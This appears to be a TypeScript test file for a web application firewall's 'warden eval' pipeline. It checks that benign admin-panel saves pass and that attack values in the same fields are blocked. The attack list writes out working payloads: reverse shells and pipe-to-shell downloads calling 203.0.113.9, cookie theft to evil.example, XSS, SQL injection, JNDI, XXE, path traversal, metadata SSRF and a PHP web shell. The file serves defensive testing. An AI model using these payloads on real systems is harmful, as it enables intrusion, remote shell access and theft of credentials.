/**
 * Issue 14's admin saves (datasets/families config-editor, cluster-paths, security-rules, tag-snippets,
 * scheduler-ui) through the full pipeline (bundled rules + the shipped model, `warden eval`): the values those
 * families carry pass, and attacks placed in the same fields — a traversal or a system file as the saved path,
 * a reverse shell or a download-and-run as the cron command or in a cron file, markup that runs on load in
 * a tag snippet's field, a traversal or metadata address through a service proxy, SQL or a JNDI lookup in a
 * rule text's field, an SSRF in a settings page's Referer — are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const form = (host: string, path: string, pairs: (v: string) => [string, string][]): Carrier => (v) => ({
  method: 'POST',
  path,
  query: '',
  headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded', Origin: `https://${host}` },
  body: new URLSearchParams(pairs(v)).toString(),
});
const json = (host: string, path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });

const CARRIERS: Record<string, Carrier> = {
  'file manager path': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', v.slice(0, v.lastIndexOf('/')) || '/'], ['file', v.slice(v.lastIndexOf('/') + 1)], ['content', 'server {\n    listen 80;\n}\n'], ['from_charset', 'UTF-8']]),
  'file manager content': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/cron.d'], ['file', 'shop-backup'], ['content', v], ['from_charset', 'UTF-8']]),
  'cron command': form('10.0.4.12:2083', '/cpsess1234567890/execute/Cron/add_line', (v) => [['command', v], ['minute', '*/5'], ['hour', '*'], ['day', '*'], ['month', '*'], ['weekday', '*']]),
  'forge job': json('forge.laravel.com', '/api/v1/servers/123456/jobs', (v) => ({ command: v, frequency: 'nightly', user: 'forge' })),
  'suricata rules': json('192.168.1.1', '/api/ids/settings/set', (v) => ({ ids: { userDefinedRules: { rule: v } } })),
  'wazuh rule field': (v) => ({ method: 'PUT', path: '/rules/files/local_rules.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: `<group name="web,">\n  <rule id="100200" level="10">\n    <if_sid>31100</if_sid>\n    <url>${v}</url>\n    <description>Probe</description>\n  </rule>\n</group>\n` }),
  'rmm task': json('rmm.example.com', '/api/v2/scheduled-tasks', (v) => ({ name: 'Nightly DB backup', schedule: { type: 'daily', at: '02:00' }, action: { type: 'powershell', command: v }, runAs: 'SYSTEM' })),
  'cronicle event': json('cronicle.example.net', '/api/app/create_event/v1', (v) => ({ title: 'Nightly export', enabled: 1, plugin: 'shellplug', params: { script: v }, timing: { hours: [3], minutes: [15] } })),
  'fail2ban filter': (v) => ({ method: 'POST', path: '/filesystem/write', query: 'path=%2Fetc%2Ffail2ban%2Ffilter.d%2Fweb-scan.conf', headers: { Host: '10.0.4.12:9090', 'Content-Type': 'text/plain;charset=UTF-8' }, body: v }),
  // The same rule text sent to an ordinary route: there it wraps a payload (detection-rules.ts isRuleEditorPath).
  'search rule text': form('shop.example.com', '/search', (v) => [['q', `alert http any any -> any any (msg:"x"; content:"${v}"; sid:1000001; rev:1;)`]]),
  'comment rule text': json('shop.example.com', '/api/comments', (v) => ({ body: `SecRule ARGS "@rx a" "id:1,phase:2,deny,msg:'${v}'"` })),
  'sigma rule': json('siem.example.com', '/api/v1/rules/sigma', (v) => ({ format: 'sigma', enabled: true, rule: v })),
  'yara rules': json('10.0.0.30', '/api/yara/rules', (v) => ({ data: { type: 'hunting_ruleset', attributes: { name: 'webshells-1', enabled: true, rules: v } } })),
  'wazuh rule file': (v) => ({ method: 'PUT', path: '/rules/files/local_rules.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: v }),
  'ghost code injection': json('blog.example.com', '/ghost/api/admin/settings/', (v) => ({ settings: [{ key: 'codeinjection_head', value: v }] }), 'PUT'),
  'header plugin': form('shop.example.com', '/wp-admin/options-general.php?page=insert-headers-and-footers', (v) => [['ihaf_insert_header', v], ['_wpnonce', 'a1b2c3d4e5'], ['submit', 'Save']]),
  'shopify theme layout': (v) => ({ method: 'PUT', path: '/admin/api/2024-07/themes/357906983048/assets.json', query: '', headers: { Host: 'k3x9q2m1.myshopify.com', 'Content-Type': 'application/json', 'X-Shopify-Access-Token': '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' }, body: JSON.stringify({ asset: { key: 'layout/theme.liquid', value: v } }) }),
  'service proxy path': (v) => ({ method: 'GET', path: v, query: '', headers: { Host: '127.0.0.1:8001', Accept: 'text/html' } }),
  'settings referer': (v) => ({ method: 'GET', path: '/api/v1/status', query: '', headers: { Host: '10.0.4.12:8080', Accept: 'application/json', Referer: v } }),
};

const GTM = "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\nnew Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=\n'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n})(window,document,'script','dataLayer','GTM-K7Q2ZP4');</script>\n<!-- End Google Tag Manager -->";
const PIXEL_HEAD = "<!-- Meta Pixel Code -->\n<script>\n!function(f,b,e,v,n,t,s)\n{if(f.fbq)return;n=f.fbq=function(){n.callMethod?\nn.callMethod.apply(n,arguments):n.queue.push(arguments)};\nif(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';\nn.queue=[];t=b.createElement(e);t.async=!0;\nt.src=v;s=b.getElementsByTagName(e)[0];\ns.parentNode.insertBefore(t,s)}(window, document,'script',\n'https://connect.facebook.net/en_US/fbevents.js');\nfbq('init', '418273645501827');\nfbq('track', 'PageView');\n";
const PIXEL = "<!-- Meta Pixel Code -->\n<script>\n!function(f,b,e,v,n,t,s)\n{if(f.fbq)return;n=f.fbq=function(){n.callMethod?\nn.callMethod.apply(n,arguments):n.queue.push(arguments)};\nif(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';\nn.queue=[];t=b.createElement(e);t.async=!0;\nt.src=v;s=b.getElementsByTagName(e)[0];\ns.parentNode.insertBefore(t,s)}(window, document,'script',\n'https://connect.facebook.net/en_US/fbevents.js');\nfbq('init', '418273645501827');\nfbq('track', 'PageView');\n</script>\n<noscript><img height=\"1\" width=\"1\" style=\"display:none\"\nsrc=\"https://www.facebook.com/tr?id=418273645501827&ev=PageView&noscript=1\"\n/></noscript>\n<!-- End Meta Pixel Code -->";
const GTAG = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n\n  gtag('config', 'G-8XK2LQ4M1Z', { 'anonymize_ip': true });\n</script>";
const MATOMO = "<script>\n  var _paq = window._paq = window._paq || [];\n  /* tracker methods like \"setCustomDimension\" should be called before \"trackPageView\" */\n  _paq.push(['trackPageView']);\n  _paq.push(['enableLinkTracking']);\n  (function() {\n    var u=\"https://stats.example.org/\";\n    _paq.push(['setTrackerUrl', u+'matomo.php']);\n    _paq.push(['setSiteId', '3']);\n    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];\n    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);\n  })();\n</script>";

/** Shopify's layout/theme.liquid around a head snippet (page-layout.ts). */
const theme = (head: string, body = "  {% section 'header' %}\n  {{ content_for_layout }}"): string =>
  `<!doctype html>\n<html lang="{{ request.locale.iso_code }}">\n<head>\n${head}\n  <meta charset="utf-8">\n  <title>{{ page_title }}</title>\n  {{ content_for_header }}\n  {{ 'base.css' | asset_url | stylesheet_tag }}\n</head>\n<body>\n${body}\n</body>\n</html>`;

const BENIGN: [string, string][] = [
  // Vendors' snippets whole (tag-snippets.ts), and a panel's own page as the Referer (referer-origin.ts).
  ['header plugin', GTM],
  ['header plugin', PIXEL],
  ['ghost code injection', GTAG],
  ['shopify theme layout', theme(GTM)],
  ['shopify theme layout', theme(`${GTAG}\n${PIXEL}`)],
  ['ghost code injection', `${MATOMO}\n<script defer data-domain="example.com" src="https://plausible.io/js/script.js"></script>`],
  // A scheduler's job command beside its schedule (scheduled-commands.ts).
  ['cron command', 'mysqldump --single-transaction -u shop shop_db | gzip > /home/shop/backups/shop-$(date +\\%F).sql.gz'],
  ['cron command', '/usr/local/bin/php -q /home/shop/public_html/wp-cron.php >> /home/shop/logs/cron.log 2>&1'],
  ['forge job', 'certbot renew --quiet --deploy-hook "systemctl reload nginx"'],
  ['cronicle event', '#!/bin/sh\n\ncd /srv/shop/current && /usr/bin/php artisan schedule:run > /dev/null 2>&1\n'],
  ['rmm task', 'powershell.exe -NoProfile -NonInteractive -File C:\\Scripts\\Backup-Database.ps1'],
  // Detection rules quoting what attacks send (detection-rules.ts).
  ['suricata rules', 'alert http any any -> $HTTP_SERVERS any (msg:"LOCAL Sensitive file requested"; flow:established,to_server; http.uri; content:"/etc/passwd"; nocase; pcre:"/\\/etc\\/passwd/i"; classtype:web-application-attack; sid:9100001; rev:2;)\nalert http any any -> any any (msg:"LOCAL SQLi keyword"; http.uri; content:"union select"; nocase; sid:9100002; rev:1;)'],
  ['wazuh rule file', '<group name="web,accesslog,">\n  <rule id="100210" level="10">\n    <if_sid>31100</if_sid>\n    <url>/wp-login.php|/xmlrpc.php|/phpmyadmin/</url>\n    <description>Probe of admin endpoint: $(url)</description>\n  </rule>\n</group>\n'],
  ['sigma rule', "title: SQL injection attempt\nid: 5a8e2a0c-3f1d-4c1b-9a43-8d3f8a1b2c3d\nstatus: test\nlogsource:\n  category: webserver\ndetection:\n  selection:\n    cs-uri-query|contains:\n      - 'union select'\n      - 'sleep('\n      - '../'\n  condition: selection\nlevel: high"],
  ['yara rules', 'rule Webshell_PHP_x1\n{\n    meta:\n        description = "PHP backdoors"\n    strings:\n        $s1 = "eval(base64_decode(" ascii\n        $s2 = "system($_GET" nocase ascii\n    condition:\n        any of them\n}'],
  ['fail2ban filter', '[Definition]\nfailregex = ^<HOST> -.*"(GET|POST) [^"]*(?:\\/etc\\/passwd|union select)[^"]*" (?:404|403)\nignoreregex =\n'],
  ['settings referer', 'http://10.0.4.12:8080/cpsess1234567890/frontend/jupiter/filemanager/editit.html?file=nginx.conf&dir=%2Fetc%2Fnginx'],
  ['settings referer', 'http://10.0.4.12:8080/ui/ids#rules'],
  ['settings referer', 'http://10.0.4.12:8080/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:/proxy/#/workloads?namespace=default'],
  ['file manager path', '/home/shop/public_html/.htaccess'],
  ['cron command', 'cd /home/shop/public_html && /usr/local/bin/php artisan schedule:run >> /dev/null 2>&1'],
  ['forge job', 'php8.3 /home/forge/shop.example.com/artisan queue:work --stop-when-empty'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/grafana/proxy/api/health'],
  ['settings referer', 'https://admin.example.com/settings/network'],
  // A dashboard on another named host as the Referer of its data-source query (referer-origin.ts namedHostRefererParts).
  ['settings referer', 'https://grafana.internal/d/bYjhjyxaf/rabbitmq?orgId=1&var-namespace=istio-system'],
  ['settings referer', 'https://grafana.example.io/d/1c1ttUv2r/keycloak?orgId=1&var-namespace=observability&from=now-6h&to=now'],
];

const ATTACKS: [string, string][] = [
  ['file manager path', '../../../../etc/passwd'],
  ['file manager path', '/home/shop/public_html/../../../etc/shadow'],
  ['file manager content', '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'],
  ['file manager content', '<?php system($_GET["cmd"]); ?>'],
  ['cron command', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['cron command', 'curl -s http://203.0.113.9/x.sh | sh'],
  ['cron command', 'wget -qO- http://203.0.113.9/m | bash'],
  ['cron command', 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ== | base64 -d | bash'],
  ['forge job', 'nc -e /bin/sh 203.0.113.9 4444'],
  ['forge job', 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''],
  ['suricata rules', "' UNION SELECT username, password FROM users--"],
  ['suricata rules', '${jndi:ldap://203.0.113.9:1389/a}'],
  ['wazuh rule field', '</url></rule></group><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ['ghost code injection', '"><svg onload=alert(document.domain)>'],
  ['ghost code injection', '<img src=x onerror=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ=="))>'],
  ['header plugin', '<script>document.location="https://evil.example/?c="+document.cookie</script>'],
  ['header plugin', '<iframe src="javascript:alert(1)"></iframe>'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/http:grafana:3000/proxy/../../../../etc/passwd'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/http:grafana:3000/proxy/public/plugins/alertlist/../../../../../../../../etc/passwd'],
  ['settings referer', "https://admin.example.com/settings?tab=network' UNION SELECT password FROM users--"],
  ['settings referer', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  // What runs in a job's grammar: a download kept and run, a file written to /etc, code on an interpreter's line, PowerShell's encoded command.
  ['cron command', 'curl -s -o /tmp/x.sh http://203.0.113.9/x.sh && sh /tmp/x.sh'],
  ['cron command', "echo '* * * * * root curl -s http://203.0.113.9/x | sh' > /etc/cron.d/x"],
  ['cron command', "php -r 'system(base64_decode(\"aWQ=\"));'"],
  ['cronicle event', '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f\n'],
  ['rmm task', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['rmm task', "powershell.exe -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\""],
  // A payload wrapped in a rule's syntax off a rule editor's route (session 32: these passed to /search).
  ['search rule text', "' OR 1=1 -- "],
  ['search rule text', "1' UNION SELECT username,password FROM users-- "],
  ['search rule text', "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
  ['comment rule text', "x' UNION SELECT password FROM users--"],
  // A rule text with something beside its rules, and what runs in a rule format.
  ['suricata rules', 'alert http any any -> any any (msg:"x"; content:"a"; sid:1;)\n\' UNION SELECT username, password FROM users--'],
  ['wazuh rule file', '<?xml version="1.0"?>\n<!DOCTYPE group [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<group name="web,">\n  <rule id="100210" level="10">\n    <url>&xxe;</url>\n  </rule>\n</group>\n'],
  ['sigma rule', "title: x\nlogsource:\n  category: webserver\ndetection:\n  selection: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://203.0.113.9/x.jar']]]]\n  condition: selection"],
  ['fail2ban filter', '[Definition]\nfailregex = ^<HOST> .*$\nactionban = curl -s http://203.0.113.9/x.sh | sh\n'],
  // A snippet with something outside its skeleton, and the request's own host as a Referer with an attack in it.
  ['header plugin', `${PIXEL_HEAD}document.location='https://evil.example/?c='+document.cookie;\n</script>`],
  ['header plugin', `${GTM}\n<script>fetch('https://evil.example/c?'+document.cookie)</script>`],
  ['ghost code injection', '<script async src="https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z" onload="eval(atob(this.id))"></script>'],
  // A theme layout around a snippet with something that runs or leaks in its skeleton, body or template outputs.
  ['shopify theme layout', theme(GTM, '<script>new Image().src="https://evil.example/c?"+document.cookie</script>')],
  ['shopify theme layout', theme(GTM).replace('<body>', '<body onload="eval(atob(location.hash.slice(1)))">')],
  ['shopify theme layout', theme(GTM, '<img src=x onerror=alert(document.domain)>')],
  ['shopify theme layout', theme(GTM, "{{ ''.__class__.__mro__[1].__subclasses__() }}")],
  ['shopify theme layout', theme(GTM, '{{ config.items() }}')],
  ['shopify theme layout', theme(GTM).replace('{{ page_title }}', '</title><script>alert(document.cookie)</script>')],
  ['shopify theme layout', theme(GTM, '<iframe src="javascript:alert(1)"></iframe>')],
  ['settings referer', "http://10.0.4.12:8080/settings?tab=network' UNION SELECT password FROM users--"],
  ['settings referer', 'http://10.0.4.12:8080/"><script>alert(document.cookie)</script>'],
  ['settings referer', 'http://10.0.4.12:8080/files?path=../../../../etc/passwd'],
  ['settings referer', 'http://10.0.4.12:8080/search?q=${jndi:ldap://203.0.113.9:1389/a}'],
  // Another named host's page as the Referer: its path and every value are scored.
  ['settings referer', "https://grafana.internal/d/x/y?orgId=1' UNION SELECT password FROM users--"],
  ['settings referer', 'https://grafana.internal/etc/passwd'],
  ['settings referer', 'https://grafana.internal/d/x?var-ns=<script>alert(document.cookie)</script>'],
  ['settings referer', 'https://grafana.internal/d/x?var-ns=${jndi:ldap://203.0.113.9:1389/a}'],
  ['settings referer', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'],
];

testCarriers('admin saves (issue 14 families)', 'passes the values these families carry', CARRIERS, BENIGN, ATTACKS);
